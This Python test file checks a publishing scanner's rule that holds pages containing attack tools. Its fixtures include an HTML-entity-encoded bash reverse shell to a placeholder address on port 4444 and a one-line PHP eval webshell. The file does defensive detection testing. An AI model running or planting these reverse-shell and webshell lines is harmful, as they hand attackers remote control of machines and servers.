"""CAC402 attack-tool (Art. 4(2)) through the real CLI: held with the line named, accepted
with a reasoned allow, quiet on a page that only describes the attack in words."""

from __future__ import annotations

import json
from pathlib import Path

from tests.rules.helpers import check, line_of

# A blog post with a reverse shell hidden behind HTML entities (RFC 5737 address, so only
# Article 4(2) is in play).
SHELL = """
    # Notes from the lab

    The payload we sent:

    <pre>bash -i &#x3e;&#x26; &#x2f;dev&#x2f;tcp&#x2f;192.0.2.10&#x2f;4444 0&#x3e;&#x26;1</pre>

    It worked.
    """

ACCEPTED = """
    # Notes from the lab

    <!-- threatpub: allow CAC402 reason="internal training page, reviewed by the security team" -->
    <pre>bash -i &#x3e;&#x26; &#x2f;dev&#x2f;tcp&#x2f;192.0.2.10&#x2f;4444 0&#x3e;&#x26;1</pre>
    """

WEBSHELL = """
    # What the intruder left behind

    ```php
    <?php @eval($_POST['k3y']);?>
    ```
    """

# An advisory that names the attack without the tool: published, no CAC402 finding at all.
WORDS = """
    # Command injection in Example Router 2.1

    An unauthenticated attacker can run commands as root and open a reverse shell or plant
    a webshell. Check reachability with `nc -zv router.example.org 443`; Bash's /dev/tcp
    redirections are not involved. Upgrade to 2.1.4.
    """


def test_cac402_holds_accepts_with_reason_and_stays_quiet(tmp_path: Path) -> None:
    run = check(
        tmp_path,
        {"shell.md": SHELL, "accepted.md": ACCEPTED, "webshell.md": WEBSHELL, "words.md": WORDS},
    )

    shell = run.page("shell.md")
    assert shell.verdict == "hold"
    finding = shell.one("CAC402")
    assert finding["action"] == "hold"
    assert finding["line"] == line_of(SHELL, "<pre>")
    assert finding["found"] == "reverse shell (/dev/tcp redirection) in prose (HTML-entity-encoded)"

    accepted = run.page("accepted.md")
    assert accepted.verdict == "publish", accepted.findings
    [suppressed] = [f for f in accepted.data["suppressed"] if f["code"] == "CAC402"]
    assert suppressed["suppressed_by"] == "internal training page, reviewed by the security team"

    webshell = run.page("webshell.md")
    assert webshell.verdict == "hold"
    assert webshell.one("CAC402")["line"] == line_of(WEBSHELL, "<?php")

    words = run.page("words.md")
    assert words.verdict == "publish", words.findings
    assert "CAC402" not in words.codes

    # The report describes; it never quotes the tool.
    report = json.dumps(run.report)
    for secret in ("192.0.2.10", "4444", "k3y", "$_POST", "/dev/tcp/"):
        assert secret not in report, secret
